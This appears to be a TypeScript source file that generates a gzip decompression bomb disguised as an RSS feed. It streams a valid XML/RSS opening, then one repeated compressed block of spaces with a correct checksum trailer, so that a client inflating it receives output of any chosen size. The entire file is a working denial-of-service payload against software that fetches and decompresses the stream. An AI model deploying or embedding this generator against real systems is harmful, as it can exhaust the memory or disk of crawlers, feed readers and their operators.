/** Streams gzip that inflates to any size, at no cost in memory: one compressed block, said over and over. */
import { constants, crc32, deflateRawSync } from 'node:zlib'

const blockBytes = 1024 ** 2
const head = Buffer.from('<?xml version="1.0"?><rss version="2.0"><channel><title>')

/** A feed that begins well and goes on in spaces. Smaller than its own beginning it cannot be. */
export function* streamBomb(bytes: number): Generator<Uint8Array> {
  const spaces = Buffer.alloc(blockBytes, ' ')
  const block = deflateBlock(spaces)
  const rest = Math.max(bytes - head.length, 0)
  const last = spaces.subarray(0, rest % blockBytes)
  let checksum = crc32(head)
  yield Buffer.concat([gzipHeader, deflateBlock(head)])
  for (let left = rest; left >= blockBytes; left -= blockBytes) {
    checksum = crc32(spaces, checksum)
    yield block
  }
  const trailer = Buffer.alloc(8)
  trailer.writeUInt32LE(crc32(last, checksum), 0)
  trailer.writeUInt32LE((head.length + rest) % 2 ** 32, 4)
  yield Buffer.concat([deflateBlock(last), finalBlock, trailer])
}

/** RFC 1952: deflate, no flags, no time, unknown system. */
const gzipHeader = Uint8Array.of(0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255)

/** RFC 1951: an empty block that says it is the last one. */
const finalBlock = Uint8Array.of(3, 0)

/** Compressed alone it refers to nothing before it, and a flush ends on a byte, so blocks may be repeated. */
function deflateBlock(data: Uint8Array): Buffer {
  return deflateRawSync(data, { level: 9, finishFlush: constants.Z_SYNC_FLUSH })
}
